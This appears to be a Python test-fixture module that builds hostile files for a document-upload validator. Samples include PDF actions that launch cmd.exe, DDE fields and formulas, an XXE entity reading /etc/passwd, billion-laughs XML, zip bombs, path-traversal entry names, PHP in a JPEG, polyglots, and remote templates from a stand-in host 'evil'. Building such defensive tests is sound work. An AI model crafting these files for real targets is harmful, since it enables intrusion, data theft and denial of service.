"""Hostile files, made when asked for: each with the media type it claims and the fault that stops it.

`FILES` are by name `(media type, file name, bytes, fault)`. `GOOD` are harmless files of every type.
"""

# ruff: noqa: E501 - a table: one file, one line

import struct
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from tests.documents import PDF as SMALL_PDF

PDF = "application/pdf"
JPEG = "image/jpeg"
PNG = "image/png"
OFD = "application/ofd"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
NAME_OF = {PDF: "a.pdf", JPEG: "a.jpg", PNG: "a.png", OFD: "a.ofd", XLSX: "a.xlsx", DOCX: "a.docx"}


# --- pictures ---------------------------------------------------------------------------------------


def chunk(name: bytes, body: bytes, *, crc: int | None = None) -> bytes:
    """One chunk of a PNG."""
    right = zlib.crc32(name + body)
    return (
        struct.pack(">I", len(body))
        + name
        + body
        + struct.pack(">I", right if crc is None else crc)
    )


def png(width: int = 1, height: int = 1, *, after: bytes = b"", inside: bytes = b"") -> bytes:
    """A PNG that says it is so large."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    data = chunk(b"IDAT", zlib.compress(b"\0\0"))
    head = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
    return head + inside + data + chunk(b"IEND", b"") + after


def segment(marker: int, body: bytes) -> bytes:
    """One segment of a JPEG."""
    return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body


def jpeg(width: int = 1, height: int = 1, *, after: bytes = b"", inside: bytes = b"") -> bytes:
    """A JPEG with a stuffed byte, a restart and a marker that stands alone."""
    frame = segment(0xC0, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
    scan = segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + b"\x12\xff\x00\x34\xff\xd0\x56"
    return (
        b"\xff\xd8"
        + segment(0xE0, b"JFIF\0")
        + inside
        + b"\xff\x01"
        + frame
        + scan
        + b"\xff\xd9"
        + after
    )


# --- PDF --------------------------------------------------------------------------------------------


def pdf(inside: bytes = b"", *, end: bytes = b"startxref\n9\n%%EOF\n") -> bytes:
    """A PDF with something inside."""
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + inside + b"\n" + end


def object_stream(objects: bytes, *, filters: bytes = b"/Filter /FlateDecode") -> bytes:
    """Objects hidden in a compressed stream."""
    packed = zlib.compress(objects)
    head = b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 %s /Length %d >>\n" % (filters, len(packed))
    return head + b"stream\n" + packed + b"\nendstream\nendobj\n"


# --- containers -------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True, kw_only=True)
class Part:
    """One entry, with whatever its headers lie about."""

    name: str | bytes
    body: bytes
    method: int = 8
    flags: int = 0
    size: int | None = None
    crc: int | None = None
    mode: int = 0o100644
    local_name: bytes | None = None
    local_size: int | None = None
    raw: bytes | None = None
    offset: int | None = None
    before: bytes = b""
    described: bool = False
    absent: bool = False


def container(*parts: Part, after: bytes = b"", before: bytes = b"", comment: bytes = b"",
              count: int | None = None, shift: int = 0, disk: int = 0, cut: int = 0, gap: bytes = b"") -> bytes:  # fmt: skip
    """Write a ZIP as told, right or wrong."""
    out, central = bytearray(before), bytearray()
    for part in parts:
        out += part.before
        written = part.name if isinstance(part.name, bytes) else part.name.encode()
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed = part.body if part.method == 0 else packer.compress(part.body) + packer.flush()
        packed = packed if part.raw is None else part.raw
        crc = zlib.crc32(part.body) if part.crc is None else part.crc
        size = len(part.body) if part.size is None else part.size
        flags = part.flags | (8 if part.described else 0)
        at = len(out) if part.offset is None else part.offset
        local = part.local_name or written
        sizes = (
            (0, 0, 0)
            if part.described
            else (crc, len(packed), size if part.local_size is None else part.local_size)
        )
        header = struct.pack(
            "<4s5H3L2H", b"PK\x03\x04", 20, flags, part.method, 0, 33, *sizes, len(local), 0
        )  # fmt: skip
        out += b"" if part.absent else header + local + packed
        if part.described:
            out += struct.pack("<4s3L", b"PK\x07\x08", crc, len(packed), size)
        central += struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 0x031E, 20, flags, part.method, 0, 33, crc, len(packed), size,
            len(written), 0, 0, 0, 0, part.mode << 16, at,
        ) + written  # fmt: skip
    out += gap
    directory = len(out)
    number = len(parts) if count is None else count
    out += central[: len(central) - cut]
    out += struct.pack(
        "<4s4H2LH",
        b"PK\x05\x06",
        disk,
        0,
        number,
        number,
        len(central) - cut,
        directory + shift,
        len(comment),
    )
    return bytes(out + comment + after)


TYPES = Part(
    name="[Content_Types].xml",
    body=b'<Types><Default Extension="xml" ContentType="application/xml"/></Types>',
)
WORD = Part(name="word/document.xml", body=b"<w:document xmlns:w='w'><w:p/></w:document>")
BOOK = Part(name="xl/workbook.xml", body=b"<workbook/>")


def docx(*parts: Part, **how: object) -> bytes:
    """A DOCX with further parts."""
    return container(TYPES, WORD, *parts, **how)  # type: ignore[arg-type]


def xlsx(*parts: Part, **how: object) -> bytes:
    """An XLSX with further parts."""
    return container(TYPES, BOOK, *parts, **how)  # type: ignore[arg-type]


def xml(name: str, body: str, *, encoding: str = "utf-8") -> Part:
    """An XML part."""
    return Part(name=name, body=body.encode(encoding))


def relationship(kind: str, target: str, mode: str = "External") -> Part:
    """A part that refers to something."""
    return xml(
        "word/_rels/document.xml.rels",
        f'<r:Relationships xmlns:r="r"><r:Relationship Id="1" Type="http://x/{kind}" Target="{target}"'
        f' TargetMode="{mode}"/></r:Relationships>',
    )


ZEROS = bytes(30 * 1024 * 1024)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)
LINK = Part(name="word/link.xml", body=b"/etc/passwd", mode=0o120777)


def overlapping() -> bytes:
    """Two entries whose directory names the same bytes."""
    return container(TYPES, WORD, Part(name="word/two.xml", body=b"<a/>", offset=0))


def trailing_archive() -> bytes:
    """A PDF that unpacks: the archive's end lies before the PDF's, covered by its comment."""
    tail = b"\nstartxref\n9\n%%EOF\n"
    return pdf(end=b"")[:-1] + container(WORD, comment=tail)


DTD = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;&c;</a>'

Bad = tuple[str, Callable[[], bytes], str]

BAD: Mapping[str, Bad] = {
    # what it is not
    "nothing": (PDF, lambda: b"", "document_empty"),
    "a page named PDF": (PDF, lambda: b"<html><script>1</script></html>", "document_type_differs"),
    "an SVG named PNG": (PNG, lambda: b"<svg onload='1'/>", "document_type_differs"),
    "a GIF that is a page, named JPEG": (JPEG, lambda: b"GIF89a/*<script>*/=1;", "document_type_differs"),
    "a Windows program named PDF": (PDF, lambda: b"MZ\x90\0" + bytes(99), "document_type_differs"),
    "a Linux program named PNG": (PNG, lambda: b"\x7fELF" + bytes(99), "document_type_differs"),
    "an old Word file named DOCX": (DOCX, lambda: OLE, "document_type_differs"),
    "a PDF behind a line": (PDF, lambda: b"\n" + SMALL_PDF, "document_type_differs"),
    "a PDF without a version": (PDF, lambda: b"%PDF-x" + SMALL_PDF, "document_type_differs"),
    "a PNG named JPEG": (JPEG, png, "document_type_differs"),
    "a ZIP named DOCX": (DOCX, lambda: container(TYPES), "document_type_differs"),
    "a DOCX named XLSX": (XLSX, docx, "document_type_differs"),
    "an XLSX named OFD": (OFD, xlsx, "document_type_differs"),
    # PDF
    "a PDF with JavaScript": (PDF, lambda: pdf(b"2 0 obj\n<< /S /JavaScript /JS (x) >>"), "document_active"),
    "a PDF with an escaped name": (PDF, lambda: pdf(b"<< /S /J#61vaScr#69pt >>"), "document_active"),
    "a PDF that acts on opening": (PDF, lambda: pdf(b"<< /OpenAction << /S /URI >> >>"), "document_active"),
    "a PDF that acts by reference": (PDF, lambda: pdf(b"<< /OpenAction 7 0 R >>"), "document_active"),
    "a PDF that launches": (PDF, lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>"), "document_active"),
    "a PDF with a file inside": (PDF, lambda: pdf(b"<< /Type /EmbeddedFile >>"), "document_active"),
    "a PDF with additional actions": (PDF, lambda: pdf(b"<< /AA << /O 7 0 R >> >>"), "document_active"),
    "a PDF with a form that sends": (PDF, lambda: pdf(b"<< /S /SubmitForm >>"), "document_active"),
    "a PDF with a form of scripts": (PDF, lambda: pdf(b"<< /XFA 7 0 R >>"), "document_active"),
    "a PDF with a script in an object stream": (PDF, lambda: pdf(object_stream(b"<< /S /JavaScript >>")), "document_active"),
    "a PDF with a plain object stream": (PDF, lambda: pdf(b"5 0 obj\n<< /Type /ObjStm >>\nstream\n<< /AA 7 0 R >>\nendstream"), "document_active"),
    "a PDF with an action hidden in a picture": (PDF, lambda: pdf(b"stream\n<< /S /JavaScript >>\nendstream"), "document_active"),
    "a PDF with an oddly packed object stream": (PDF, lambda: pdf(object_stream(b"", filters=b"/Filter [/ASCIIHexDecode /FlateDecode]")), "document_damaged"),
    "a PDF with a predicted object stream": (PDF, lambda: pdf(object_stream(b"", filters=b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>")), "document_damaged"),
    "a PDF with a broken object stream": (PDF, lambda: pdf(b"5 0 obj\n<< /Type /ObjStm /Filter /Fl >>\nstream\nxxxx\nendstream"), "document_damaged"),
    "a PDF with an object stream without end": (PDF, lambda: pdf(b"5 0 obj\n<< /Type /ObjStm >>\nstream\nxx"), "document_damaged"),
    "a PDF with an object stream that explodes": (PDF, lambda: pdf(object_stream(bytes(65 * 1024 * 1024))), "expands_too_far"),
    "an encrypted PDF": (PDF, lambda: pdf(b"trailer << /Encrypt 5 0 R >>"), "document_encrypted"),
    "a PDF cut short": (PDF, lambda: SMALL_PDF[:-8], "document_truncated"),
    "a PDF without its table": (PDF, lambda: pdf(end=b"%%EOF"), "document_truncated"),
    "a PDF with a program behind it": (PDF, lambda: SMALL_PDF + b"MZ" + bytes(9), "document_trailing_data"),
    "a PDF with an archive behind it": (PDF, lambda: SMALL_PDF + docx(), "document_polyglot"),
    "a PDF inside an archive's comment": (PDF, trailing_archive, "document_polyglot"),
    "a PDF that begins like a page": (PDF, lambda: pdf(b"%<html><script>alert(1)</script>"), "document_polyglot"),
    # pictures
    "a JPEG with an archive behind it": (JPEG, lambda: jpeg(after=docx()), "document_polyglot"),
    "a JPEG with a page inside": (JPEG, lambda: jpeg(inside=segment(0xFE, b"<script>1</script>")), "document_polyglot"),
    "a JPEG with PHP inside": (JPEG, lambda: jpeg(inside=segment(0xFE, b"<?php system(1);")), "document_polyglot"),
    "a JPEG with data behind it": (JPEG, lambda: jpeg(after=b"\0" * 5), "document_trailing_data"),
    "a JPEG cut short in its scan": (JPEG, lambda: jpeg()[:-4], "document_truncated"),
    "a JPEG cut short in a segment": (JPEG, lambda: jpeg()[:9], "document_truncated"),
    "a JPEG that is none": (JPEG, lambda: b"\xff\xd8\xff\xe0\0\x02abcdefgh", "document_damaged"),
    "a JPEG as wide as a street": (JPEG, lambda: jpeg(65_535, 1), "image_too_large"),
    "a PNG of four billion pixels": (PNG, lambda: png(65_536, 65_536), "image_too_large"),
    "a PNG of more pixels than its sides tell": (PNG, lambda: png(19_000, 19_000), "image_too_large"),
    "a PNG with a wrong checksum": (PNG, lambda: png(inside=chunk(b"tEXt", b"a", crc=7)), "document_damaged"),
    "a PNG with two headers": (PNG, lambda: png(inside=chunk(b"IHDR", bytes(13))), "document_damaged"),
    "a PNG with a short header": (PNG, lambda: b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", b""), "document_damaged"),
    "a PNG cut short": (PNG, lambda: png()[:-6], "document_truncated"),
    "a PNG whose chunk is longer than it": (PNG, lambda: png()[:33] + b"\x7f\xff\xff\xffIDAT" + bytes(9), "document_truncated"),
    "a PNG with data behind it": (PNG, lambda: png(after=b"x"), "document_trailing_data"),
    # bombs
    "thirty mebibytes in thirty kilobytes": (DOCX, lambda: docx(Part(name="word/x.bin", body=ZEROS)), "expands_too_far"),
    "a hundred mebibytes of parts": (DOCX, lambda: docx(*(Part(name=f"word/{n}.bin", body=b"", size=2**20) for n in range(101))), "expands_too_far"),
    "three thousand parts": (DOCX, lambda: docx(*(Part(name=f"word/{n}", body=b"", method=0) for n in range(3000))), "expands_too_far"),
    "more than it declares": (DOCX, lambda: docx(Part(name="word/x.bin", body=bytes(9999), size=10)), "archive_inconsistent"),
    "less than it declares": (DOCX, lambda: docx(Part(name="word/x.bin", body=b"abc", size=999)), "archive_inconsistent"),
    "stored and of another size": (DOCX, lambda: docx(Part(name="word/x.bin", body=b"abc", method=0, size=9)), "archive_inconsistent"),
    "an archive in an archive": (DOCX, lambda: docx(Part(name="word/x.docx", body=docx())), "archive_nested"),
    "a gzip in an archive": (OFD, lambda: container(Part(name="OFD.xml", body=b"<a/>"), Part(name="x.gz", body=b"\x1f\x8b\x08\0")), "archive_nested"),
    # structure
    "overlapping entries": (DOCX, overlapping, "archive_inconsistent"),
    "an entry that is only in the directory": (DOCX, lambda: docx(Part(name="word/a.xml", body=b"", method=0, absent=True)), "archive_inconsistent"),
    "a gap between entries": (DOCX, lambda: docx(Part(name="word/x", body=b"", before=b"hidden")), "archive_inconsistent"),
    "a gap before the directory": (DOCX, lambda: docx(gap=b"hidden"), "archive_inconsistent"),
    "one name twice": (DOCX, lambda: docx(Part(name="WORD/document.xml", body=b"<b/>")), "archive_inconsistent"),
    "another name in the entry": (DOCX, lambda: docx(Part(name="word/a.xml", body=b"<a/>", local_name=b"word/b.xml")), "archive_inconsistent"),
    "another size in the entry": (DOCX, lambda: docx(Part(name="word/a.xml", body=b"<a/>", local_size=9)), "archive_inconsistent"),
    "an entry behind the directory": (DOCX, lambda: docx(Part(name="word/a.xml", body=b"<a/>", offset=99_999), gap=b""), "archive_inconsistent"),
    "a directory of another place": (DOCX, lambda: docx(shift=1), "archive_inconsistent"),
    "a directory on another disk": (DOCX, lambda: docx(disk=1), "archive_inconsistent"),
    "a directory with one entry more": (DOCX, lambda: docx(count=3), "archive_inconsistent"),
    "a directory with one entry less": (DOCX, lambda: docx(count=1), "archive_inconsistent"),
    "an archive without a directory": (DOCX, lambda: docx()[:-30], "document_truncated"),
    "an archive with a comment": (DOCX, lambda: docx(comment=b"<script>"), "document_trailing_data"),
    "an archive with data behind it": (XLSX, lambda: xlsx(after=b"MZ" + bytes(9)), "document_trailing_data"),
    "a wrong checksum": (DOCX, lambda: docx(Part(name="word/a.bin", body=b"abc", crc=7)), "document_damaged"),
    "no deflate": (DOCX, lambda: docx(Part(name="word/a.bin", body=b"abc", raw=b"\xff\xff\xff")), "document_damaged"),
    "an unknown method": (DOCX, lambda: docx(Part(name="word/a.bin", body=b"abc", method=12)), "document_damaged"),
    "an encrypted entry": (XLSX, lambda: xlsx(Part(name="xl/a.bin", body=b"abc", flags=1)), "document_encrypted"),
    # names inside
    "a path upwards": (DOCX, lambda: docx(Part(name="../../etc/cron.d/x", body=b"a")), "archive_entry_name"),
    "an absolute path": (DOCX, lambda: docx(Part(name="/etc/passwd", body=b"a")), "archive_entry_name"),
    "a drive": (DOCX, lambda: docx(Part(name="C:/x", body=b"a")), "archive_entry_name"),
    "a backslash": (DOCX, lambda: docx(Part(name="..\\x", body=b"a")), "archive_entry_name"),
    "a control character": (DOCX, lambda: docx(Part(name="word/a\nb", body=b"a")), "archive_entry_name"),
    "a reversing character": (DOCX, lambda: docx(Part(name="word/a\u202exml", body=b"a")), "archive_entry_name"),
    "a name of another encoding": (DOCX, lambda: docx(Part(name="合同".encode("gb18030"), body=b"a")), "archive_entry_name"),
    "a name without end": (DOCX, lambda: docx(Part(name="a" * 256, body=b"a")), "archive_entry_name"),
    "a link": (DOCX, lambda: docx(LINK), "archive_entry_name"),
    # what acts
    "a macro": (DOCX, lambda: docx(Part(name="word/vbaProject.bin", body=b"x")), "document_active"),
    "a macro that is an OLE file": (XLSX, lambda: xlsx(Part(name="xl/printer.bin", body=OLE)), "document_active"),
    "a macro by content type": (XLSX, lambda: container(xml("[Content_Types].xml", '<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'), BOOK), "document_active"),
    "ActiveX": (DOCX, lambda: docx(xml("word/activeX/activeX1.xml", "<a/>")), "document_active"),
    "a program inside": (OFD, lambda: container(Part(name="OFD.xml", body=b"<a/>"), Part(name="x.dat", body=b"MZ\x90")), "document_active"),
    "a field that asks for DDE": (DOCX, lambda: docx(xml("word/a.xml", "<w><w:instrText xmlns:w='w'>DDEAUTO c:\\cmd.exe</w:instrText></w>")), "document_active"),
    "DDE spread over runs": (DOCX, lambda: docx(xml("word/a.xml", "<p><r><instrText>D</instrText></r><r>x<instrText>DE cmd</instrText></r></p>")), "document_active"),
    "a simple field of DDE": (DOCX, lambda: docx(xml("word/a.xml", "<p><fldSimple instr='DDE cmd'/></p>")), "document_active"),
    "a formula of DDE": (XLSX, lambda: xlsx(xml("xl/worksheets/sheet1.xml", "<s><f>cmd|'/c calc'!A0</f></s>")), "document_active"),
    "a formula that calls out": (XLSX, lambda: xlsx(xml("xl/worksheets/sheet1.xml", "<s><f>WEBSERVICE(A1)</f></s>")), "document_active"),
    "a DDE link": (XLSX, lambda: xlsx(xml("xl/a.xml", "<a><ddeLink ddeService='cmd'/></a>")), "document_active"),
    # what reaches out
    "an outside template": (DOCX, lambda: docx(relationship("attachedTemplate", "http://evil/x.dotm")), "external_reference"),
    "an outside picture": (DOCX, lambda: docx(relationship("image", "http://evil/x.png")), "external_reference"),
    "an outside file by escaped word": (DOCX, lambda: docx(relationship("oleObject", "file:///x", "&#69;xternal")), "external_reference"),
    "an outside address called inside": (DOCX, lambda: docx(relationship("image", "//evil/x", "Internal")), "external_reference"),
    "a link that runs": (DOCX, lambda: docx(relationship("hyperlink", "javascript:x")), "external_reference"),
    "an outside book": (XLSX, lambda: xlsx(xml("xl/externalLinks/externalLink1.xml", "<a/>")), "external_reference"),
    "an outside connection": (XLSX, lambda: xlsx(xml("xl/connections.xml", "<a/>")), "external_reference"),
    "an outside entity": (DOCX, lambda: docx(xml("word/a.xml", DTD)), "xml_with_dtd"),
    "a billion laughs": (XLSX, lambda: xlsx(xml("xl/a.xml", LAUGHS)), "xml_with_dtd"),
    "an entity in UTF-16": (OFD, lambda: container(xml("OFD.xml", DTD, encoding="utf-16")), "xml_with_dtd"),
    "XML that is none": (DOCX, lambda: docx(xml("word/a.xml", "<a>")), "document_damaged"),
}  # fmt: skip

GOOD: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "a small PDF": (PDF, lambda: SMALL_PDF),
    "a PDF that shows its first page": (PDF, lambda: pdf(b"<< /OpenAction [3 0 R /Fit] >>")),
    "a PDF with an object stream": (PDF, lambda: pdf(object_stream(b"<< /Type /Page >>"))),
    "a PDF with a picture": (PDF, lambda: pdf(b"stream\n/JS /AA \xff\xd8\nendstream")),
    "a PDF that mentions a directory": (PDF, lambda: pdf(b"(PK\x05\x06" + bytes(40) + b")")),
    "a PNG": (PNG, png),
    "a JPEG": (JPEG, jpeg),
    "an OFD": (OFD, lambda: container(Part(name="OFD.xml", body=b"<a/>"), Part(name="Doc_0/", body=b"", method=0))),
    "an XLSX with a formula": (XLSX, lambda: xlsx(xml("xl/worksheets/sheet1.xml", "<s><f>SUM(A1:A2)</f><v>1</v></s>"))),
    "a DOCX with a link": (DOCX, lambda: docx(relationship("hyperlink", "https://www.mohrss.gov.cn/"))),
    "a DOCX with styles": (DOCX, lambda: docx(relationship("styles", "styles.xml", "Internal"))),
    "a DOCX written as a stream": (DOCX, lambda: container(*(Part(name=p.name, body=p.body, described=True) for p in (TYPES, WORD)))),
    "a DOCX with a page number": (DOCX, lambda: docx(xml("word/footer.xml", "<p><instrText>PAGE</instrText></p>"))),
}  # fmt: skip
"""What offices really send; all of it passes."""

NAMES: Mapping[str, str] = {
    "../../etc/passwd.pdf": "file_name_unusable",
    "/etc/a.pdf": "file_name_unusable",
    "C:\\a.pdf": "file_name_unusable",
    "a/b.pdf": "file_name_unusable",
    "con.pdf": "file_name_unusable",
    "LPT1": "file_name_unusable",
    ".a.pdf": "file_name_unusable",
    "a.pdf ": "file_name_unusable",
    "a.pdf.": "file_name_unusable",
    'a".pdf': "file_name_unusable",
    "a": "file_name_extension",
    "": "file_name_extension",
    "a.docx": "file_name_extension",
    "a.pdf.exe": "file_name_extension",
    "a.exe.pdf": "file_name_extension",
    "合同.HTML .pdf": "file_name_extension",
}
"""Names of PDF files, with what is wrong with them."""
